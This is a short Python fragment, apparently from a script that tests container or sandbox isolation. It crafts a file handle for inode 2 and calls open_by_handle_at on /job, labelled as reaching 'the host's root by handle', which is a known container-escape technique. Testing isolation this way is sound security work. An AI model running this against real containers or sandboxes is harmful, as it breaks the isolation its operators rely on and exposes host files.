handle = (8).to_bytes(4, "little") + (1).to_bytes(4, "little") + (2).to_bytes(8, "little")
tried(
    "the host's root by handle",
    lambda: call("open_by_handle_at", os.open("/job", os.O_RDONLY), handle, 0),
)
